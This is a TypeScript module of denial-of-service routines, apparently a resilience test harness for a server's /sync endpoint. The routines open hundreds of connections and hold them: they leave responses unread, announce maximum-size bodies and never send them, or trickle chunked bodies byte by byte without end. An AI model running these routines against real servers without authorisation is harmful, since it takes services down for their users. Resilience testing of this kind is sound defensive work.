import { type Attack, type Caller, connect, count, openSession, pour, repeat } from './caller.ts'
import { frame, open, request } from './frames.ts'

const head = 'POST /sync HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n'
const json = { 'content-type': 'application/json' }
/** Two lanes would use up all allowed bytes of bodies, if announced bytes counted. */
const lanes = 2
const everyMs = 250
/** Connections that are left open, over both lanes. */
const maximumOpen = 400
/** Default of `BODY_LIMIT`. */
const bodyLimit = 4_194_304

/** Opens connections one after the other, sends a little on each and leaves it open. */
function leaveOpen(caller: Caller, what: string, start: () => Promise<boolean>): Promise<void> {
  let opened = 0
  return repeat(caller, lanes, everyMs, async () => {
    if (opened >= maximumOpen) return
    opened += 1
    if (await start()) count(caller, what)
  })
}

/** Two POSTs without a body on each session, whose responses are not read. */
export const unreadResponses: Attack = (caller) =>
  leaveOpen(caller, 'pairs of requests', async () => {
    const socket = await openSession(caller, { window: 0 })
    socket?.write(Buffer.concat([1, 3].map((id) => open(id, request('POST', '/sync', json)))))
    return socket !== undefined
  })

/** Announces bodies of the allowed length and never sends them. */
export const announcedBodies: Attack = (caller) =>
  leaveOpen(caller, 'announced bodies', async () => {
    const length = String(bodyLimit)
    if (caller.protocol === 'HTTP/2') {
      const socket = await openSession(caller)
      const block = request('POST', '/sync', { ...json, 'content-length': length })
      socket?.write(open(1, block, false))
      return socket !== undefined
    }
    const socket = await connect(caller)
    socket?.resume().write(`${head}Content-Length: ${length}\r\n\r\n`)
    return socket !== undefined
  })

/** Sends bodies of unknown length byte by byte, without an end. */
export const endlessBodies: Attack = (caller) =>
  repeat(caller, lanes, everyMs, async () => {
    const isHttp2 = caller.protocol === 'HTTP/2'
    const socket = isHttp2 ? await openSession(caller) : await connect(caller)
    if (!socket) return
    socket.resume()
    socket.write(
      isHttp2
        ? open(1, request('POST', '/sync', json), false)
        : `${head}Transfer-Encoding: chunked\r\n\r\n`,
    )
    const byte = isHttp2 ? frame('data', 0, 1, Buffer.from(' ')) : Buffer.from('1\r\n \r\n')
    await pour(caller, socket, 'bytes', () => byte, { everyMs: 100 })
    socket.destroy()
  })
